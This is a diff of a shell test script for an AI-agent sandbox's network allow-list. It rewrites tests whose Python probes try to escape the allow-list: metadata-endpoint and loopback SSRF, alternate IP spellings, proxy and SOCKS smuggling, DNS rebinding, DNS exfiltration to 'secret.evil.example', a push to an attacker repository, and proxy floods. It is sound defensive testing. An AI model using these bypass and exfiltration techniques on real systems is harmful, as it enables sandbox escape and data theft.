@@ -8,7 +8,8 @@ test_description='network: what is not listed is out of reach, whatever is tried
 require_sandbox
 
 conf=$HOME/.config/git-agent/config.yaml
-mkdir -p "${conf%/*}" "$HOME/p"
+mkdir -p "${conf%/*}" "$HOME/p" "$HOME/aihome"
+chmod 700 "$HOME/aihome"
 
 # Something answers on every address of this host, on the ports of what listens on people's machines, by
 # TCP and UDP, and on abstract sockets. What it hears is a line of `heard`. One thread, so that
@@ -90,8 +91,8 @@ v4 = ["127.0.0.1", "127.0.0.2", "0.0.0.0", "192.0.2.10", "10.1.2.3", "169.254.16
 v6 = ["::1", "2001:db8::10", "::ffff:127.0.0.1", "::ffff:192.0.2.10", "::", "fd00:ec2::254", "64:ff9b::a9fe:a9fe",
       "2001:4860:4860::8888", "2001:db8:5::5"]
 names = ["localhost", "web.example.org", "db.example.org", "private.example.org", "rebound.example.org",
-         "meta.example.org", "metadata.google.internal", "host.docker.internal", "a.wild.example.net", "own.example.org",
-         "own6.example.org"]
+         "meta.example.org", "metadata.google.internal", "host.docker.internal", "a.wild.example.net",
+         "own.example.org", "own6.example.org"]
 reached = set()
 def tcp(family, addr, port):
     s = socket.socket(family, socket.SOCK_STREAM)
@@ -143,9 +144,10 @@ for name in names:
             pass
 for port in 22, 80, 443, 7001:
     for host in v4 + ["[%s]" % a for a in v6] + names + ["127.1", "2130706433", "0x7f000001", "0177.0.0.1",
-            "private.wild.example.net", "own.wild.example.net", "rebound.wild.example.net", "meta.wild.example.net", "x.web.example.org",
-            "a.wild.example.net.", "wild.example.net", "web.example.org@127.0.0.1", "127.0.0.1#.wild.example.net",
-            "127.0.0.1\0.wild.example.net", "[::ffff:127.0.0.1]", "xn--n3h.wild.example.net"]:
+            "private.wild.example.net", "own.wild.example.net", "rebound.wild.example.net", "meta.wild.example.net",
+            "x.web.example.org", "a.wild.example.net.", "wild.example.net", "web.example.org@127.0.0.1",
+            "127.0.0.1#.wild.example.net", "127.0.0.1\0.wild.example.net", "[::ffff:127.0.0.1]",
+            "xn--n3h.wild.example.net"]:
         h = host.encode()
         asks = [b"CONNECT %s:%d HTTP/1.1\r\nHost: web.example.org:443\r\n\r\n" % (h, port),
                 b"GET http://%s:%d/ HTTP/1.1\r\nHost: web.example.org\r\n\r\n" % (h, port),
@@ -155,7 +157,8 @@ for port in 22, 80, 443, 7001:
             if proxied(ask):
                 reached.add("proxy%d %s %d" % (i, host, port))
 for a in v4:
-    if proxied(b"\5\1\0\5\1\0\1" + socket.inet_aton(a) + b"\0\x50") or proxied(b"\4\1\0\x50" + socket.inet_aton(a) + b"\0"):
+    ip = socket.inet_aton(a)
+    if proxied(b"\5\1\0\5\1\0\1" + ip + b"\0\x50") or proxied(b"\4\1\0\x50" + ip + b"\0"):
         reached.add("proxy5 %s 80" % a)
 for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary":
     try:
@@ -165,9 +168,10 @@ for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary":
             reached.add("abstract " + name)
     except OSError:
         pass
-for family, kind, proto in ((socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET, socket.SOCK_RAW, 1),
-        (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_DGRAM, 1),
-        (socket.AF_VSOCK, socket.SOCK_STREAM, 0), (socket.AF_INET, socket.SOCK_STREAM, 132), (socket.AF_INET, socket.SOCK_STREAM, 262)):
+from socket import AF_INET, AF_INET6, AF_PACKET, AF_VSOCK, SOCK_DGRAM, SOCK_RAW, SOCK_STREAM
+for family, kind, proto in ((AF_INET, SOCK_RAW, 255), (AF_INET, SOCK_RAW, 1), (AF_INET6, SOCK_RAW, 58),
+        (AF_PACKET, SOCK_RAW, 3), (AF_INET, SOCK_DGRAM, 1), (AF_VSOCK, SOCK_STREAM, 0), (AF_INET, SOCK_STREAM, 132),
+        (AF_INET, SOCK_STREAM, 262)):
     try:
         s = socket.socket(family, kind, proto)
         if kind == socket.SOCK_RAW or family == socket.AF_VSOCK:
@@ -207,45 +211,43 @@ cd "$TRASH" || exit 1
 in_session() {
 	(cd "$HOME/p" && timeout 300 git agent start -q "$@")
 }
-
-test_expect_success 'all of it is there to be reached: without a wall it is' '
-	in_session --network host -- python3 attack.py >out 2>err &&
+# attack OPTIONS: what it reached is in `out`, what the host heard in `heard`
+attack() {
+	in_session "$@" -- python3 attack.py >out 2>err &&
 	all_heard >heard &&
-	for what in "tcp 127.0.0.1 5432" "tcp ::1 22" "tcp 169.254.169.254 80" "tcp 10.1.2.3 7001" "tcp ::ffff:127.0.0.1 631" "tcp 2001:db8::10 9229" "tcp 0.0.0.0 80"; do
-		grep -Fx "$what" out || {
-			echo "not reached: $what"
-			cat out err
-			exit 1
-		}
+	cat out heard
+}
+# only_heard LINE...: what the host heard, but for names under the listed wildcard
+only_heard() {
+	not_looked_up heard | sort >got
+	printf '%s\n' "$@" | sort | test_cmp - got
+}
+
+test_expect_success 'with the network of the host the attack reaches all that it tries' '
+	attack --network host &&
+	for what in "tcp 127.0.0.1 5432" "tcp ::1 22" "tcp 169.254.169.254 80" "tcp 10.1.2.3 7001" \
+		"tcp ::ffff:127.0.0.1 631" "tcp 2001:db8::10 9229" "tcp 0.0.0.0 80"; do
+		grep -Fx "$what" out || exit 1
 	done &&
 	grep "^udp .* 53 .*tunnel" heard &&
 	grep "^tcp 100.100.100.200 443" heard
 '
 
-test_expect_success 'NW-01: with no network nothing is reached, of any kind' '
-	in_session --no-network -- python3 attack.py >out &&
-	cat out &&
+test_expect_success 'NW-01: without a network nothing is reached' '
+	attack --no-network &&
 	test ! -s out &&
-	test -z "$(all_heard)" &&
-	in_session --network none -- python3 attack.py >out &&
-	test ! -s out &&
-	test -z "$(all_heard)"
+	test ! -s heard
 '
 
-test_expect_success 'NW-04: an empty list is nothing, and not all' '
-	in_session --network allow -- python3 attack.py >out &&
-	cat out &&
+test_expect_success 'NW-04: an empty list allows nothing' '
+	attack --network allow &&
 	test ! -s out &&
-	test -z "$(all_heard)"
+	test ! -s heard
 '
 
-test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and nothing else by any spelling, protocol or name' '
-	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-		# all that the host heard of: the two that are listed, never a datagram
-	! not_looked_up heard |
-		grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
+test_expect_success 'NW-02 NW-03 NW-04 NW-05: only what is listed is reached, by any spelling, protocol or name' '
+	attack --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 &&
+	! not_looked_up heard | grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
 	grep -qx "tcp 192.0.2.10 443" heard &&
 	grep -qx "tcp 127.0.0.1 7001" heard &&
 	grep -aq "^proxy0 a.wild.example.net 443" out &&
@@ -253,34 +255,28 @@ test_expect_success 'NW-02 NW-03 NW-04 NW-05: what is listed is reached, and not
 		# by what names it was reached
 	! grep -av -e " 443$" -e " 7001$" out &&
 	! grep -a " 443$" out |
-		grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" -e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
+		grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" \
+			-e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
 '
 
-test_expect_success 'NW-02 NW-03 NW-04: a listed name leads to no address that is not listed: rebinding' '
-	in_session --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" &&
-	grep -qx "tcp 192.0.2.10 80" heard &&
-		# an internal name may be listed, and leads there; a wildcard does not
-	in_session --allow private.example.org:80 --allow "*.wild.example.net:443" -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-	! not_looked_up heard | grep -vx -e "tcp 10.1.2.3 80" -e "tcp 192.0.2.10 443" &&
-	grep -qx "tcp 10.1.2.3 80" heard &&
-		# what is listed by its address is what was asked for
-	in_session --allow 169.254.169.254:80 --allow "[::1]:22" -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-	printf "tcp 169.254.169.254 80\ntcp ::1 22\n" | test_cmp - heard
+test_expect_success 'NW-02 NW-03 NW-04: a listed name leads to no address of this machine or of its link' '
+	attack --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" \
+		--allow own.example.org:80 --allow own6.example.org:80 &&
+	only_heard "tcp 192.0.2.10 80"
 '
 
-test_expect_success 'NW-03: nor to this machine by another of its addresses' '
-	in_session --allow own.example.org:80 --allow own6.example.org:80 --allow "*.wild.example.net:80" -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-	! not_looked_up heard | grep -vx "tcp 192.0.2.10 80" &&
-	grep -qx "tcp 192.0.2.10 80" heard &&
+test_expect_success 'NW-02 NW-03: a name may lead into a private network where it is listed, a wildcard may not' '
+	attack --allow private.example.org:80 --allow "*.wild.example.net:443" &&
+	only_heard "tcp 10.1.2.3 80" "tcp 192.0.2.10 443"
+'
+
+test_expect_success 'NW-03: an address that is listed as such is reached, also by a listed name' '
+	attack --allow 169.254.169.254:80 --allow "[::1]:22" --allow own.example.org:80 --allow 198.51.100.5:80 &&
+	only_heard "tcp 169.254.169.254 80" "tcp ::1 22" "tcp 198.51.100.5 80" &&
+	grep -aq "^proxy0 own.example.org 80" out
+'
+
+test_expect_success 'NW-03: a connection that is refused for its address is shown with the option that allows it' '
 	in_session --name own --allow own.example.org:80 -- python3 -c "
 import socket
 try:
@@ -288,43 +284,43 @@ try:
 except ConnectionResetError:
     print(\"reset\")" >out &&
 	echo reset | test_cmp - out &&
-	git -C "$HOME/p" agent log --json own |
-		grep "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" &&
+	git -C "$HOME/p" agent log --json own >journal &&
+	grep "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" journal &&
 	git -C "$HOME/p" agent show own >shown &&
-	grep "^  allowed, and refused for the address it leads to: own.example.org:80; only with --allow ADDRESS:PORT\$" shown &&
+	grep "^  allowed, and refused for the address it leads to: own.example.org:80; only with --allow ADDR" shown &&
 	! grep -e "--allow own" shown &&
-	git -C "$HOME/p" agent show --json own |
-		python3 -c "import json, sys; n = json.load(sys.stdin)[\"network\"]; assert n[\"refused\"] == [] and [r[\"to\"] for r in n[\"forbidden\"]] == [\"own.example.org:80\"], n" &&
-	in_session --allow own.example.org:80 --allow 198.51.100.5:80 -- python3 attack.py >out &&
-	all_heard >heard &&
-	cat out heard &&
-	echo "tcp 198.51.100.5 80" | test_cmp - heard &&
-	grep -aq "^proxy0 own.example.org 80" out
+	git -C "$HOME/p" agent show --json own | python3 -c "
+import json, sys
+n = json.load(sys.stdin)[\"network\"]
+assert n[\"refused\"] == [] and [r[\"to\"] for r in n[\"forbidden\"]] == [\"own.example.org:80\"], n"
 '
 
-test_expect_success 'NW-05: no look-up of what is not listed leaves the sandbox, whatever is in it' '
-	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" -- python3 -c "
+cat >"$HOME/aihome/ask.py" <<'EOF_ASK'
 import socket, struct
 for i in range(200):
-    name = \"%d-secret.evil.example\" % i
     try:
-        socket.getaddrinfo(name, 80)
+        socket.getaddrinfo("%d-secret.evil.example" % i, 80)
     except OSError:
         pass
+mine = b"\x3f" + b"a" * 63 + b"\0\0\1\0\1"
 for tcp in False, True:
-    for what in b\"\\6secret\\4evil\\7example\\0\\0\\x10\\0\\1\", b\"\\xc0\\x0c\\0\\x10\\0\\1\", b\"\\6secret\\4wild\\7example\\3net\\0\\0\\x10\\0\\1\", b\"\\x3f\" + b\"a\" * 63 + b\"\\0\\0\\1\\0\\1\":
-        q = b\"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\" + what
+    for what in (b"\6secret\4evil\7example\0\0\x10\0\1", b"\xc0\x0c\0\x10\0\1",
+                 b"\6secret\4wild\7example\3net\0\0\x10\0\1", mine):
+        q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + what
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
         s.settimeout(60)
-        s.connect((\"127.0.0.53\", 53))
-        s.sendall(struct.pack(\"!H\", len(q)) * tcp + q)
+        s.connect(("127.0.0.53", 53))
+        s.sendall(struct.pack("!H", len(q)) * tcp + q)
         r = s.recv(600)[2 * tcp:]
-        assert r[:2] == q[:2] and r[3] & 15 in (0, 1, 3) and r[6:8] in (b\"\\0\\0\", b\"\\0\\1\"), r
+        assert r[:2] == q[:2] and r[3] & 15 in (0, 1, 3) and r[6:8] in (b"\0\0", b"\0\1"), r
         # of the one name of these that is asked for its address, one of our own
-        assert (r[7] == 1) == what.startswith(b\"\\x3f\"), r
-        assert not r[7] or r[-4:-2] == b\"\\x7f\\x40\", r
-print(\"all answered\")
-" >out &&
+        assert (r[7] == 1) == (what == mine), r
+        assert not r[7] or r[-4:-2] == b"\x7f\x40", r
+print("all answered")
+EOF_ASK
+
+test_expect_success 'NW-05: no query for a name that is not listed leaves the sandbox' '
+	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" -- python3 "$HOME/ask.py" >out &&
 	grep "all answered" out &&
 	all_heard >heard &&
 	cat heard &&
@@ -375,7 +371,7 @@ open("forge.ready", "w").close()
 s.serve_forever()
 EOF_FORGE
 
-test_expect_success 'NW-06: a host that is listed can be read and, with no key of the user, not written; what an agent brings a key for is named' '
+test_expect_success 'NW-06: a host that is listed can be read, but the user'\''s keys are not there to write' '
 	mkdir forge &&
 	for who in user attacker; do
 		git init -q --bare forge/$who/r.git &&
@@ -384,7 +380,8 @@ test_expect_success 'NW-06: a host that is listed can be read and, with no key o
 	done &&
 	{ python3 forge.py & } &&
 	forge=$! &&
-	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"; git config --global --unset credential.helper" &&
+	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"" &&
+	test_when_finished "git config --global --unset credential.helper" &&
 	test_wait_for "test -e forge.ready" &&
 	at=git.example.org:8080 &&
 		# all the ways in which the user has the key
@@ -392,7 +389,8 @@ test_expect_success 'NW-06: a host that is listed can be read and, with no key o
 	echo "http://user:user-token@$at" >"$HOME/.git-credentials" &&
 	printf "machine git.example.org login user password user-token\n" >"$HOME/.netrc" &&
 	chmod 600 "$HOME/.netrc" "$HOME/.git-credentials" &&
-	export GH_TOKEN=user-token GITHUB_TOKEN=user-token GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" &&
+	export GH_TOKEN=user-token GITHUB_TOKEN=user-token &&
+	export GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" &&
 	printf "#!/bin/sh\necho user-token\n" >askpass &&
 	chmod +x askpass &&
 	git -C "$HOME/p" push -q "http://$at/user/r.git" HEAD:refs/heads/main &&
@@ -418,124 +416,97 @@ test_expect_success 'NW-06: a host that is listed can be read and, with no key o
 	! grep user-token forge.log &&
 	test_must_fail git -C forge/user/r.git rev-parse -q --verify taken &&
 	test "$(git -C forge/attacker/r.git show out:secret)" = secret &&
-	git -C "$HOME/p" agent log --json forge >log &&
-	python3 - log $at <<-\EOT
+	git -C "$HOME/p" agent log --json forge >journal &&
+	python3 - journal $at <<-\EOT
 	import json, sys
-	last = [e for e in map(json.loads, open(sys.argv[1])) if e["event"] == "network"][0]["connections"]
+	events = map(json.loads, open(sys.argv[1]))
+	last = [e for e in events if e["event"] == "network"][0]["connections"]
 	assert [(c["how"], c["to"]) for c in last] == [("allowed", sys.argv[2])] and last[0]["out"] > 500, last
 	EOT
 '
 
-# served OPTIONS: a session `web` in which something listens on port 9999
-served() {
-	in_session "$@" --name web -d -- python3 serve.py 9999 &&
-	test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready'
-}
-
-test_expect_success 'NW-07: what listens inside is not to be reached from the host, unless it is published, and then on 127.0.0.1' '
-	tries="import socket, sys
-for a in (\"127.0.0.1\", \"::1\", \"192.0.2.10\", \"10.1.2.3\"):
+cat >tries.py <<'EOF_TRIES'
+import socket, sys
+for a in "127.0.0.1", "::1", "192.0.2.10", "10.1.2.3":
     try:
         s = socket.create_connection((a, int(sys.argv[1])), 20)
         print(a, s.recv(9).decode().strip())
     except OSError:
-        pass" &&
+        pass
+EOF_TRIES
+# served [OPTION VALUE] PORT: tries PORT of the host while something listens on port 9999 of a session
+served() {
+	served_port=$1
+	[ $# = 1 ] || served_port=$3
+	set -- ${3:+"$1" "$2"}
+	in_session "$@" --name web -d -- python3 serve.py 9999 >&2 &&
+	test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready' >&2 &&
+	python3 tries.py "$served_port" || return 1
+	git -C "$HOME/p" agent stop web >&2 &&
+	git -C "$HOME/p" agent drop --force web >&2
+}
+
+test_expect_success 'NW-07: what listens inside cannot be reached from the host' '
 	for options in "--network none" "--network allow"; do
-		served $options &&
-		python3 -c "$tries" 9999 >out || exit 1
-		git -C "$HOME/p" agent stop web &&
-		git -C "$HOME/p" agent drop --force web &&
-		cat out &&
+		served $options 9999 >out &&
 		test ! -s out ||
 			exit 1
 	done &&
 		# it is there to be reached
-	served --network host &&
-	python3 -c "$tries" 9999 >out &&
-	git -C "$HOME/p" agent stop web &&
-	git -C "$HOME/p" agent drop --force web &&
-	cat out &&
-	test "$(grep -c inside out)" = 4 &&
+	served --network host 9999 >out &&
+	test "$(grep -c inside out)" = 4
+'
+
+test_expect_success 'NW-07: a published port is reached on 127.0.0.1 only' '
 	printf "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" >"$conf" &&
 	test_when_finished "rm -f \"$conf\"" &&
-	served &&
-	python3 -c "$tries" 9998 >out &&
-	git -C "$HOME/p" agent stop web &&
-	cat out &&
+	served 9998 >out &&
 	echo "127.0.0.1 inside" | test_cmp - out
 '
 
-test_expect_success 'NW-08: junk, floods and clients that wait leave the proxy and the name server at work' '
-	in_session --allow "*.wild.example.net:443" --allow web.example.org:443 -- python3 -c "
+cat >"$HOME/aihome/flood.py" <<'EOF_FLOOD'
 import os, random, socket
 random.seed(1)
-at = (\"127.0.0.53\", 3128)
+at = ("127.0.0.53", 3128)
 def owned():
     s = socket.create_connection(at, 60)
-    s.sendall(b\"CONNECT a.wild.example.net:443 HTTP/1.1\\r\\n\\r\\n\")
-    got = b\"\"
-    while b\"owned\" not in got:
+    s.sendall(b"CONNECT a.wild.example.net:443 HTTP/1.1\r\n\r\n")
+    got = b""
+    while b"owned" not in got:
         some = s.recv(4096)
         assert some, got
         got += some
     return True
 waiting = [socket.create_connection(at, 60) for _ in range(300)]
 for s in waiting:
-    s.sendall(random.choice([b\"\", b\"C\", b\"\\5\", b\"\\5\\1\\0\", b\"GET http://a\", b\"\\4\\1\"]))
+    s.sendall(random.choice([b"", b"C", b"\5", b"\5\1\0", b"GET http://a", b"\4\1"]))
 assert owned()
 for i in range(300):
     s = socket.create_connection(at, 60)
     try:
-        s.sendall(random.choice([b\"\", b\"\\5\", b\"\\4\", b\"GET \", b\"CONNECT \"]) + os.urandom(random.randrange(3000)))
-        s.sendall(b\"x\" * random.choice([0, 10, 70000]))
+        s.sendall(random.choice([b"", b"\5", b"\4", b"GET ", b"CONNECT "]) + os.urandom(random.randrange(3000)))
+        s.sendall(b"x" * random.choice([0, 10, 70000]))
         s.shutdown(socket.SHUT_WR) if i % 2 else None
         s.close()
     except OSError:
         pass
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for i in range(3000):
-    u.sendto(os.urandom(random.randrange(600)), (\"127.0.0.53\", 53))
-t = [socket.create_connection((\"127.0.0.53\", 53), 60) for _ in range(50)]
+    u.sendto(os.urandom(random.randrange(600)), ("127.0.0.53", 53))
+t = [socket.create_connection(("127.0.0.53", 53), 60) for _ in range(50)]
 for s in t:
-    s.sendall(b\"\\1\")
+    s.sendall(b"\1")
 assert owned()
-assert socket.gethostbyname(\"web.example.org\") == \"127.64.0.2\"
-s = socket.create_connection((\"web.example.org\", 443), 60)
-assert s.recv(9) == b\"owned\\n\"
-print(\"still there\")
-" >out &&
+assert socket.gethostbyname("web.example.org") == "127.64.0.2"
+s = socket.create_connection(("web.example.org", 443), 60)
+assert s.recv(9) == b"owned\n"
+print("still there")
+EOF_FLOOD
+
+test_expect_success 'NW-08: junk, floods and clients that wait do not stop the proxy or the name server' '
+	in_session --allow "*.wild.example.net:443" --allow web.example.org:443 -- python3 "$HOME/flood.py" >out &&
 	grep "still there" out &&
 	all_heard >/dev/null
-'
-
-test_expect_success 'what was refused is said at the end, and in the journal' '
-	(
-		cd "$HOME/p" &&
-		timeout 180 git agent start --name said --allow web.example.org:443 -- python3 -c "
-import socket
-for name in \"nothere.example.org\", \"db.example.org\":
-    try:
-        socket.create_connection((name, 5432))
-    except OSError as e:
-        print(e)
-try:
-    socket.create_connection((\"10.1.2.3\", 80), 20)
-except ConnectionRefusedError as e:
-    print(e)
-"
-
-	) >out 2>err &&
-	cat out err &&
-	grep -c "Errno" out | grep -x 3 &&
-	grep "refused 3 connections: " err &&
-	for to in nothere.example.org:5432 db.example.org:5432 10.1.2.3:80; do
-		grep "allow with .*--allow $to\b" err || exit 1
-	done &&
-	git -C "$HOME/p" agent log said >journal &&
-	cat journal &&
-	grep "to db.example.org:5432, how refused" journal &&
-	grep "to nothere.example.org:5432, how refused" journal &&
-	grep "to 10.1.2.3:80, how refused" journal
 '
 
 trap - EXIT
